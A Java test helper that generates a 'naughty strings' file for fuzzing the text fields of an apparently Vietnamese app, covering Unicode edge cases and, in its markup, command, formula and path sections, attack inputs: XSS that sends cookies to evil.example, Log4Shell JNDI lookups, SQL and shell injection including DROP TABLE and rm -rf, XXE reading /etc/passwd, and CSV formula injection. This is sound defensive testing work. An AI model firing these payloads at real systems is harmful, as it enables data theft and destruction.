package vn.thuocdo;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Collectors;

/**
 * Texts that break programs, put together from what is known to be hard: they go in at every text
 * field. {@code naughty.txt} holds them one a line, everything but printable ASCII as in Java; run
 * {@link #main} after a change here.
 */
public final class NaughtyStrings {

  private static final String FILE = "naughty.txt";

  private final Set<String> all = new LinkedHashSet<>();

  private NaughtyStrings() {}

  /** Writes {@code naughty.txt} into the test resources. */
  public static void main(String[] args) throws IOException {
    Files.writeString(
        Path.of("src/test/resources", FILE),
        made().stream().map(NaughtyStrings::escaped).collect(Collectors.joining("\n", "", "\n")));
  }

  /** Returns the texts of the file. */
  public static List<String> list() {
    try (InputStream in = NaughtyStrings.class.getClassLoader().getResourceAsStream(FILE)) {
      return new String(in.readAllBytes(), StandardCharsets.US_ASCII)
          .lines()
          .map(NaughtyStrings::unescaped)
          .toList();
    } catch (IOException e) {
      throw new IllegalStateException(FILE + " is unreadable", e);
    }
  }

  /** Returns the texts that this program makes, without repeats. */
  static List<String> made() {
    var strings = new NaughtyStrings();
    strings.addInvisible();
    strings.addVietnamese();
    strings.addScripts();
    strings.addPictures();
    strings.addCases();
    strings.addMarkup();
    strings.addCommands();
    strings.addFormulas();
    strings.addPaths();
    strings.addNumbers();
    strings.addLong();
    strings.addBroken();
    return List.copyOf(strings.all);
  }

  private void add(String... texts) {
    all.addAll(List.of(texts));
  }

  private void addInvisible() {
    for (int c = 0; c < 0x20; c++) {
      add("hài" + (char) c + "lòng");
    }
    for (int c = 0x7f; c < 0xa0; c++) {
      add("hài" + (char) c + "lòng");
    }
    int[] spaces = {
      0x00a0, 0x1680, 0x2000, 0x2002, 0x2003, 0x2007, 0x2009, 0x200a, 0x2028, 0x2029, 0x202f,
      0x205f, 0x3000
    };
    for (int c : spaces) {
      add((char) c + "một" + (char) c + "cửa" + (char) c);
    }
    int[] unseen = {
      0x00ad, 0x034f, 0x061c, 0x115f, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f,
          0x202a, 0x202b,
      0x202c, 0x202d, 0x202e, 0x2060, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x3164, 0xfe0f,
          0xfeff, 0xfff9,
      0xfffc, 0xfffd
    };
    for (int c : unseen) {
      add("tốt" + (char) c + "xấu", (char) c + "đầu câu");
    }
    add(
        "không hài lòng\u202eòl iàh tấr",
        "\u2067phải\u2069 trái",
        "a\r\nb",
        "a\n\n\nb",
        "\t",
        " ",
        "  hai  ");
    add(new String(Character.toChars(0xe0001)) + "nhãn", new String(Character.toChars(0xe0041)));
  }

  private void addVietnamese() {
    for (String vowel : "a ă â e ê i o ô ơ u ư y".split(" ")) {
      for (String tone : new String[] {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}) {
        String letter = Normalizer.normalize(vowel + tone, Normalizer.Form.NFC);
        add("t" + letter + "n " + letter.toUpperCase(Locale.ROOT));
        add(Normalizer.normalize("t" + letter + "n", Normalizer.Form.NFD));
      }
    }
    add(
        "Đường Điện Biên Phủ đ Đ ð Ð",
        "Nguyễn Thị Thuỳ / Thùy",
        "hoà hòa",
        "quý quí",
        "ph\u0061\u0323\u0302m");
    add(
        "Xã Ya Tăng – làng Đăk Pơ Kơ\u0301",
        "BÌNH LUẬN VIẾT HOA CÓ DẤU",
        "khong dau gi ca",
        "đ".repeat(50));
  }

  private void addScripts() {
    add(
        "ខ្ញុំពេញចិត្ត",
        "ភ្នំពេញ\u200bកម្ពុជា",
        "กำลังรอ",
        "ຂ້ອຍພໍໃຈ",
        "我很满意",
        "滿意嗎？",
        "とても良い",
        "매우 만족");
    add(
        "मैं संतुष्ट हूँ",
        "أنا راضٍ جدا",
        "אני מרוצה",
        "Я доволен",
        "Είμαι ευχαριστημένος",
        "გმადლობთ",
        "አመሰግናለሁ");
    add(
        "ꨀꨇꩉ ꨌꩌ",
        "𞄀𞄁𞄂 Hmong",
        "𝓗𝓪̀𝓲 𝓵𝓸̀𝓷𝓰",
        "𝟬𝟵𝟴𝟳",
        "ｆｕｌｌ　ｗｉｄｔｈ",
        "ʇxǝʇ uʍop ǝpısdn",
        "سلام123מה",
        "﷽",
        "ﷺ");
    add(
        "١٢٣٤",
        "১২৩",
        "０９８７",
        "ⅣⅨ",
        "½⅓",
        "m²·kg⁻¹",
        "“ngoặc” ‘đơn’ «Pháp» „Đức“",
        "…–—‐‑−",
        "₫ 100.000đ €£¥₿");
  }

  private void addPictures() {
    String[] one = {
      "😀", "🙁", "👍", "❤️", "☎️", "🏥", "🇻🇳", "🏴", "🧑", "👩", "🪪", "🫠", "#️⃣", "0️⃣"
    };
    for (String picture : one) {
      add(picture, "ổn " + picture + picture);
    }
    for (String skin : new String[] {"🏻", "🏽", "🏿"}) {
      add("👍" + skin, "👩" + skin + "\u200d⚕️", skin);
    }
    add(
        "👨\u200d👩\u200d👧\u200d👦",
        "🏳️\u200d🌈",
        "👁️\u200d🗨️",
        "👩\u200d❤️\u200d💋\u200d👨",
        "\u200d👩\u200d",
        "🇻",
        "🇻🇻🇳");
    add(
        "a\u0301\u0301\u0301\u0301",
        "x" + "\u0336".repeat(40),
        "Z\u0351\u0342\u0307a\u0322\u0320l\u0338\u0329g\u034bo\u0321");
    add("\u0301mở đầu", "e\ufe0f", "\u20e3", "👍\ufe0e", "☺︎ ☺️", "💩".repeat(100));
  }

  private void addCases() {
    add(
        "İstanbul",
        "ıI iİ",
        "ß ẞ SS",
        "ﬁ ﬂ ﬃ",
        "ŉ ǰ ΐ ΰ",
        "ς σ Σ",
        "K k K",
        "Å Å",
        "ſ s S",
        "ǆ ǅ Ǆ",
        "ᾳ ᾼ",
        "Ω Ω",
        "ﬀ");
    add(
        "QUANTRI",
        "Quantri",
        "quantrı",
        "ｑｕａｎｔｒｉ",
        "quаntri",
        "quantri\u200b",
        "quantri ",
        "quantri\u0000",
        "admin",
        "root");
  }

  private void addMarkup() {
    String[] payloads = {
      "alert(1)",
      "document.cookie",
      "fetch('//evil.example/'+document.cookie)",
      "top['al'+'ert'](2)"
    };
    for (String payload : payloads) {
      add(
          "<script>" + payload + "</script>",
          "\"><script>" + payload + "</script>",
          "'-" + payload + "-'");
      add(
          "<img src=x onerror=" + payload + ">",
          "<svg onload=" + payload + ">",
          "javascript:" + payload);
      add(
          "</title><script>" + payload + "</script>",
          "<a href=\"javascript:" + payload + "\">x</a>");
      add(
          "</textarea><iframe srcdoc=\"<script>" + payload + "</script>\">",
          "\" autofocus onfocus=\"" + payload);
      add(
          "<ScRiPt\u0000>" + payload + "</sCrIpT>",
          "<body/onload=" + payload + ">",
          "${" + payload + "}",
          "{{" + payload + "}}");
      add(
          "<math><mi xlink:href=\"data:x,<script>" + payload + "</script>\">",
          "\\u003cscript\\u003e" + payload);
    }
    add(
        "<b>đậm</b>",
        "&lt;b&gt;",
        "&amp;amp;",
        "&#60;&#x3c;",
        "<!-- x",
        "--> x",
        "<![CDATA[x]]>",
        "]]>",
        "<?xml version='1.0'?>");
    add(
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "<xi:include href=\"/etc/passwd\"/>",
        "&e;");
    add(
        "<style>*{display:none}</style>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>",
        "<form action=//evil.example>");
    add(
        "</svg><script>x</script>",
        "<foreignObject>",
        "<use href=\"//evil.example/x#y\"/>",
        "\"/><text>",
        "<",
        ">",
        "&",
        "\"",
        "'",
        "`");
    add(
        "a</script",
        "<plaintext>",
        "<noscript><p title=\"</noscript><img src=x>\">",
        "<%= 7*7 %>",
        "#{7*7}",
        "@{7*7}",
        "*{7*7}",
        "!{x}");
    add(
        "@template.layout.staff(x)",
        "@param String x",
        "$unsafe{x}",
        "@`x`",
        "@for(;;)@endfor",
        "{0} {1}",
        "'{'0'}'",
        "''");
  }

  private void addCommands() {
    for (String quote : new String[] {"'", "\"", "`", "\\'", "%27", "ʼ", "＇"}) {
      add(
          quote + " OR 1=1 -- ",
          quote + "; DROP TABLE rating; -- ",
          quote + " UNION SELECT password_hash FROM account#");
      add(
          quote + "||(SELECT SLEEP(9))||" + quote,
          "1" + quote + ")) AND EXTRACTVALUE(1,VERSION())/*");
    }
    for (String protocol : new String[] {"ldap", "rmi", "dns", "iiop"}) {
      add(
          "${jndi:" + protocol + "://evil.example/a}",
          "${${lower:j}ndi:" + protocol + "://evil.example/a}");
    }
    add(
        "${env:THUOCDO_DATABASE_PASSWORD}",
        "${java:version}",
        "${sys:user.home}",
        "{}",
        "{} {} {}",
        "%m%n%ex",
        "%X{x}");
    add(
        "%s%s%s%n",
        "%d",
        "%1$s",
        "%99999999d",
        "%",
        "%%",
        "%2$x %3$n",
        "\\0",
        "\\n",
        "\\x41",
        "\\u0041",
        "\\",
        "\\\\");
    add(
        "; rm -rf x",
        "| id",
        "$(id)",
        "`id`",
        "&& id",
        "\nid",
        "> /tmp/x",
        "* ? [a-z]",
        "-rf",
        "--help",
        "~",
        "!!");
    add(
        "x\r\nSet-Cookie: a=b",
        "x\r\n\r\n<html>",
        "x%0d%0aLocation:%20//evil.example",
        "x\nBcc: a@evil.example");
    add(
        "2026-11-21T00:00:00.000Z ERROR vn.thuocdo forged",
        "x\n2026-11-21 ERROR forged line",
        "\u001b[31mđỏ\u001b[0m",
        "\u001b]0;title\u0007");
    add(
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "[object Object]",
        "function(){}",
        "$where",
        "{\"$gt\":\"\"}");
    add(
        "(|(uid=*))",
        "*)(uid=*",
        "' or '1'='1",
        "//user[name()='x']",
        "rO0ABXNyAA",
        "O:8:\"stdClass\":0:{}",
        "!!python/object x");
  }

  private void addFormulas() {
    for (String start : new String[] {"=", "+", "-", "@", "\t=", "\r=", " =", "＝"}) {
      add(
          start + "1+1",
          start + "HYPERLINK(\"//evil.example\",\"x\")",
          start + "cmd|' /C calc'!A0",
          start + "SUM(A1:A9)");
    }
    add(
        "a,b",
        "a;b",
        "a\tb",
        "\"a\"",
        "a\"\"b",
        "\"",
        "\"\"\"",
        "a\",\"b",
        "#comment",
        "\ufeffkind",
        "sep=;",
        "1e5",
        "00123",
        "1-2");
  }

  private void addPaths() {
    for (String up :
        new String[] {
          "../", "..\\", "..%2f", "%2e%2e/", "..%252f", "..%c0%af", "....//", "..;/", "．．／"
        }) {
      add(up.repeat(4) + "etc/passwd", up + "application.yml");
    }
    add(
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\evil.example\\x",
        "file:///etc/passwd",
        "//evil.example",
        "http://169.254.169.254/");
    add(
        "CON",
        "NUL",
        "aux.txt",
        "a/b",
        "a\\b",
        "a:b",
        "a?b",
        "a#b",
        "a%b",
        ".",
        "..",
        "...",
        ".git/config",
        "x".repeat(255) + ".svg",
        "%00",
        "a%00.svg");
  }

  private void addNumbers() {
    add(
        "0",
        "-0",
        "1",
        "-1",
        "1.0",
        "1,0",
        "1.000.000",
        "1e309",
        "-1e309",
        "1e-400",
        "NaN",
        "Infinity",
        "-Infinity",
        "0x10",
        "0b1",
        "0777");
    add(
        "2147483647",
        "2147483648",
        "-2147483649",
        "4294967296",
        "9007199254740993",
        "9223372036854775807",
        "9223372036854775808");
    add(
        "-9223372036854775809",
        "18446744073709551616",
        "9".repeat(400),
        "0." + "0".repeat(400) + "1",
        "1_000",
        "1 000",
        "1'000",
        "٣");
    add(
        "null",
        "NULL",
        "nil",
        "None",
        "undefined",
        "true",
        "false",
        "TRUE",
        "yes",
        "on",
        "[]",
        "{}",
        "\"\"",
        "0000-00-00",
        "1900-01-00");
    add(
        "2026-02-30",
        "9999-12-31T23:59:59Z",
        "+1000000000-12-31T23:59:59.999999999Z",
        "-1000000000-01-01T00:00:00Z",
        "24:00",
        "2026-W53-7");
    add(
        "31/02/2026",
        "2026-Q5",
        "2026-Q0",
        "2026-Q1@9",
        "P1D",
        "@@version",
        "00000000-0000-0000-0000-000000000000");
  }

  private void addLong() {
    for (int length : new int[] {100, 101, 200, 255, 256, 300, 1_000, 4_999, 5_000}) {
      add("x".repeat(length), "ộ".repeat(length));
    }
    add(
        "nghiêng".repeat(100),
        "từ ".repeat(1_000),
        "👨\u200d👩\u200d👧".repeat(200),
        "a\u0323\u0302".repeat(500),
        "\n".repeat(500));
    add(
        "[".repeat(1_000),
        "{\"a\":".repeat(500),
        "<b>".repeat(500),
        "(".repeat(1_000) + ")".repeat(1_000),
        "\\".repeat(1_000),
        "'".repeat(999));
    add("a".repeat(3_000) + "!", "0".repeat(2_000), " ".repeat(1_000) + "x", "A-".repeat(700));
  }

  private void addBroken() {
    add("\ud83d", "\ude00", "\ude00\ud83d", "a\ud83db", "\ud83d\ud83d\ude00", "x\udbff", "\udfffx");
    add(
        "\ufffe",
        "\uffff",
        "\ufdd0",
        "a\ufffeb",
        new String(Character.toChars(0x1ffff)),
        new String(Character.toChars(0x10ffff)));
    add(
        new String(Character.toChars(0x10fffd)),
        "\ue000",
        "\u0378",
        "Ã©",
        "Nguyá»…n",
        "Nguy?n",
        "�");
  }

  private static String escaped(String text) {
    var line = new StringBuilder();
    for (char c : text.toCharArray()) {
      if (c == '\\' || c < ' ' || c > '~') {
        line.append("\\u%04x".formatted((int) c));
      } else {
        line.append(c);
      }
    }
    return line.toString();
  }

  private static String unescaped(String line) {
    var text = new StringBuilder();
    for (int i = 0; i < line.length(); i++) {
      if (line.charAt(i) == '\\') {
        text.append((char) Integer.parseInt(line.substring(i + 2, i + 6), 16));
        i += 5;
      } else {
        text.append(line.charAt(i));
      }
    }
    return text.toString();
  }

  /** Returns the text as a JSON string, quotes included, everything but ASCII escaped. */
  public static String asJson(String text) {
    var json = new StringBuilder("\"");
    for (char c : text.toCharArray()) {
      json.append(c < ' ' || c > '~' || c == '"' || c == '\\' ? "\\u%04x".formatted((int) c) : c);
    }
    return json.append('"').toString();
  }

  /** Returns the text as a database or a browser keeps it: half a pair becomes a question mark. */
  public static String asUtf8(String text) {
    return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
  }

  /** Returns those of a list that fulfil a length in code points. */
  static List<String> upTo(int longest) {
    var fitting = new ArrayList<String>();
    for (String text : list()) {
      if (text.codePointCount(0, text.length()) <= longest) {
        fitting.add(text);
      }
    }
    return fitting;
  }
}
